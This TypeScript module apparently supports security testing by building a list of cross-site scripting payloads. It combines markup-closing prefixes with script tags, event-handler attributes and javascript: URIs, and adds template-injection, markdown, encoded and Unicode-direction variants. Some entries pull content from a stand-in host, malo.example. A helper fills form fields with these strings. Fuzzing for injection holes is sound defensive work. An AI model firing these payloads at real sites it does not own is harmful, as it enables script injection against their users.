/** Texts that run where a page takes them for markup: every prefix that could close the surrounding markup, before every way to run. */

const WAYS_OUT = ['', '">', "'>", '`>', '-->', '</script>', '</title>', '</textarea>', '</style>', ']]>']
const WAYS_IN = [
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT>',
  '<img src=x onerror=alert(1) data-xss>',
  '<svg/onload=alert(1) data-xss>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1) data-xss>',
  '<iframe srcdoc="<script>parent.alert(1)</script>" data-xss>',
  '<iframe src="javascript:alert(1)" data-xss>',
  '<a href="javascript:alert(1)" data-xss>x</a>',
  '<a href=" \u0001java\tscript:alert(1)" data-xss>x</a>',
  '<form action="javascript:alert(1)" data-xss><button>x',
  '<math><a xlink:href="javascript:alert(1)" data-xss>x',
  '<details open ontoggle=alert(1) data-xss>',
  '<input autofocus onfocus=alert(1) data-xss>',
  '<video><source onerror=alert(1) data-xss></video>',
  '<object data="javascript:alert(1)" data-xss>',
  '<embed src="javascript:alert(1)" data-xss>',
  '<base href="https://malo.example/" data-xss>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)" data-xss>',
  '<link rel=stylesheet href="https://malo.example/x.css" data-xss>',
  '<style>*{background:url(https://malo.example/x)}</style>',
]
/** Markup is not the only language: addresses, templates, links of a text, JSON, direction of reading. */
const OTHERS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '[x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '" onmouseover="alert(1)" data-xss="',
  "' autofocus onfocus='alert(1)' data-xss='",
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1) data-xss&#62;',
  '"}];alert(1)//',
  '</script><script>alert(1)//',
  '<!--<script>alert(1)//-->',
  '\u202e<img src=x onerror=alert(1) data-xss>',
  'a\u2028alert(1)\u2029b',
]

export const payloads: readonly string[] = [
  ...WAYS_IN.flatMap((way) => WAYS_OUT.map((out) => `${out}${way}`)),
  ...OTHERS,
]

let next = 0

/** The next text of at most `length` characters, so that every field that is filled has another one. */
export function payload(length: number): string {
  const fitting = payloads.filter((each) => each.length <= length && !/\p{Cc}/u.test(each))
  next += 7
  return fitting[next % fitting.length] ?? ''
}
